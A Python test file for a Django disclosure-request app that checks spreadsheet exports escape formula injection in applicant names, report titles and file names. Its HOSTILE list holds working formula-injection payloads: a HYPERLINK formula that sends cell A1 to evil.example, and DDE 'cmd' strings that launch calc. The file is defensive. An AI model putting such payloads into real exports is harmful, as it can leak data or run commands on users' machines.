"""Hole 4 of #15: text that starts like a formula is written as text in every XLSX and CSV.

Found on the landed main: the case export wrote an applicant name beginning with ``=`` as a
live formula. Each export is opened the way a clerk's spreadsheet program would see it:
XLSX with openpyxl (the cell's type), CSV as the text a spreadsheet would parse.
"""

import csv
import io

import pytest
from openpyxl import load_workbook

from gongkai.ops.spreadsheets import csv_value

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(book_bytes):
    book = load_workbook(io.BytesIO(book_bytes))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def test_case_export_writes_applicant_text_as_text(client, lite_demo):
    from gongkai.applications import services

    admin = lite_demo.users["tjj-admin"]
    tjj = lite_demo.agencies["mzl-tjj"]
    for n, text in enumerate(HOSTILE):
        services.application_register(
            agency=tjj,
            actor=admin,
            channel="in_person",
            data={
                "applicant_type": "natural_person",
                "applicant_name": text,
                "id_type": "resident_id",
                "id_number": "11010519491231002X",
                "phone": "13812345678",
                "email": f"p{n}@example.com",
                "address": text,
                "info_title": text,
                "description": text,
                "provision_form": "electronic",
                "receipt_method": "email",
            },
        )
    client.force_login(admin)
    response = client.get("/admin/applications/export.xlsx")
    assert response.status_code == 200
    cells = _cells(response.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells if c.data_type == "s"}
    for text in HOSTILE:
        assert text.strip() in {str(v).strip() for v in values}, text  # kept, as text


def test_report_xlsx_keeps_its_own_totals_live_and_text_as_text(lite_demo):
    import dataclasses

    from gongkai.reports.exports import document, xlsx
    from gongkai.reports.models import AnnualReport

    report = AnnualReport.objects.filter(agency__slug="mzl-tjj").order_by("-year").first()
    doc = dataclasses.replace(document(report), title=HOSTILE[0])  # e.g. an agency's name
    cells = _cells(xlsx.render(doc))
    titles = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert titles and all(c.data_type == "s" for c in titles)
    sums = [c for c in cells if c.data_type == "f"]
    assert sums and all(str(c.value).startswith("=SUM(") for c in sums)


def test_report_check_csv_escapes_names_read_from_files(tmp_path):
    from gongkai.reports.cli.check import _write_csv

    class Result:
        file = "=cmd|' /C calc'!A0.txt"
        agency = "@SUM(1)局"
        year = 2020
        format = "2019"
        problems = []

    out = tmp_path / "problems.csv"
    _write_csv(str(out), [Result()], [("+evil.docx", "-无法读取")])
    rows = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"))))
    for row in rows[1:]:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert rows[1][0] == "'=cmd|' /C calc'!A0.txt"


def test_wagtail_report_csv_is_escaped(client, staff):
    from wagtail.models import Page, PageLogEntry

    root = Page.get_first_root_node()
    page = root.add_child(instance=Page(title=HOSTILE[0], slug="hostile"))
    PageLogEntry.objects.log_action(page, "wagtail.edit", user=staff["admin"])
    client.force_login(staff["admin"])
    response = client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert any(cell == "'" + HOSTILE[0] for row in rows for cell in row), rows[:3]
    assert not any(cell.startswith("=") for row in rows for cell in row)


def test_csv_value():
    for text in HOSTILE:
        assert csv_value(text) == "'" + text
    assert csv_value("-12") == "-12" and csv_value("+3.5") == "+3.5"  # numbers stay numbers
    assert csv_value("统计局") == "统计局" and csv_value(7) == 7 and csv_value(None) is None
